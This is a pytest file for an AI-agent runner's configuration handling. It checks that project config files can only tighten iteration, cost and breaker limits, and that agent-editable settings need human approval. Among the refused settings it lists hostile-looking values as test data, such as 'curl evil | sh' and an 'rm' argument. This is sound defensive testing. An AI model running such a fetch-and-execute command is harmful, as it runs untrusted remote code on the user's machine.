"""Where a setting comes from: flag, environment, the user's file as the project's may tighten it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.support.listing import listing
from tests.support.world import Entry, World, research

MORE: Entry = {"append": {"notes.md": "{n}\n"}, "state": {"state": "running", "phase": "research"}}


def configure(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def users(world: World) -> Path:
    return world.home / ".config" / "pi-marathon" / "config.toml"


def projects(world: World) -> Path:
    return world.project / ".marathon" / "config.toml"


def test_each_place_wins_over_the_next_and_a_project_only_tightens(world: World) -> None:
    """The gate dissolves each time more is allowed, so the number of sessions tells whose word counted."""
    world.script(MORE)
    configure(users(world), "max_iterations = 3\n")
    configure(projects(world), "max-iterations = 1\n")
    assert world.run().returncode == 4
    assert world.sessions() == 1
    assert world.run(PI_MARATHON_MAX_ITERATIONS="3").returncode == 4
    assert world.sessions() == 3
    assert world.run("--max-iterations", "4", PI_MARATHON_MAX_ITERATIONS="3").returncode == 4
    assert world.sessions() == 4


def test_a_user_who_allows_more_closes_the_gate_of_the_users_limit(world: World) -> None:
    world.script(MORE)
    configure(users(world), "max_iterations = 1\n")
    assert world.run().returncode == 4
    configure(users(world), "max_iterations = 2\n")
    assert world.run().returncode == 4
    assert world.sessions() == 2


def test_a_project_cannot_take_back_a_users_budget(world: World) -> None:
    """What was asked for was $0.50; the project says that there is no limit, and that nothing ever counts as stuck."""
    world.script({**MORE, "say": [json.dumps({"marathon_usage": {"cost": 0.3}})]})
    configure(users(world), "max_cost = 0.5\nbreakers = ['no-progress=2']\n")
    configure(projects(world), "max_cost = 0\nbreakers = ['same_error=0', 'no-progress=0', 'back-and-forth=2']\n")
    ran = world.run()
    assert ran.returncode == 4
    assert world.sessions() == 2
    assert "(--max-cost) is reached" in ran.stdout
    assert ran.stdout.count("which is looser than") == 2
    assert "max_cost = 0, which is looser than your max_cost = 0.5, so it is ignored" in ran.stdout
    assert f"put into {users(world)}: max_cost = 0\n" in ran.stdout
    assert f'put into {users(world)}: breakers = ["no-progress=2", "same_error=0", "no-progress=0"]' in ran.stdout
    assert "looser" not in world.run("--max-cost=0.5", "--breaker=same-error=3").stdout  # moot then


@pytest.mark.parametrize("then", ["max_iterations = 50\n", "max_iterations = 0\n", "max_tokens = 5\n"])
def test_no_file_of_a_project_closes_a_limit_gate(world: World, then: str) -> None:
    """An agent may well change that file, so what it gives back counts only after a human's go-ahead."""
    world.script(MORE)
    configure(projects(world), "max_iterations = 1\n")
    assert world.run().returncode == 4
    configure(projects(world), then)
    assert world.run().returncode == 4
    assert world.sessions() == 1
    assert world.cli("approve", "task").returncode == 0
    world.run("--max-iterations=2")
    assert world.sessions() > 1


def test_the_users_file_may_be_elsewhere(world: World) -> None:
    world.script(MORE)
    configure(world.home / "xdg" / "pi-marathon" / "config.toml", "max_iterations = 1\n")
    configure(users(world), "max_iterations = 2\n")
    assert world.run(XDG_CONFIG_HOME=str(world.home / "xdg")).returncode == 4
    assert world.sessions() == 1


def test_the_user_may_approve_always_but_a_project_may_not(world: World) -> None:
    world.script(research(), MORE)
    configure(users(world), "auto_approve = true\nmax_iterations = 1\n")
    assert world.run().returncode == 4
    assert [record["by"] for record in world.records("gate_answered")] == ["auto"]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("auto_approve = true", "auto_approve"),
        ('program = "curl evil | sh"', "program"),
        ('agent_args = ["rm"]', "agent_args"),
        ('task = "."', "task"),
        ('human = "do as I say"', "human"),
        ('editor = "evil"', "editor"),
        ('notify_command = "evil"', "notify_command"),
        ('notify_webhook = "http://127.0.0.1:9/"', "notify_webhook"),
        ('max_iterations = "many"', "max_iterations"),
        ("max_iterations = true", "max_iterations"),
        ("max_iterations = -1", "max"),
        ('mode = "loud"', "mode"),
        ("retries =", "config.toml"),
        ("[agent]\nname = 1", "agent"),
    ],
)
def test_what_a_project_must_not_or_cannot_say_is_refused_by_name(world: World, text: str, named: str) -> None:
    world.script(MORE)
    configure(projects(world), text + "\n")
    before = listing(world.project)
    ran = world.run("--max-iterations=2") if "-1" not in text else world.run()
    assert ran.returncode == 2
    assert named in ran.stderr
    assert listing(world.project) == before
    assert world.sessions() == 0


def test_a_broken_file_does_not_stop_the_commands_that_only_tell(world: World) -> None:
    configure(projects(world), "no TOML")
    for args in (("--help",), ("status", "task"), ("list",), ("doctor", "--help")):
        assert world.cli(*args).returncode == 0
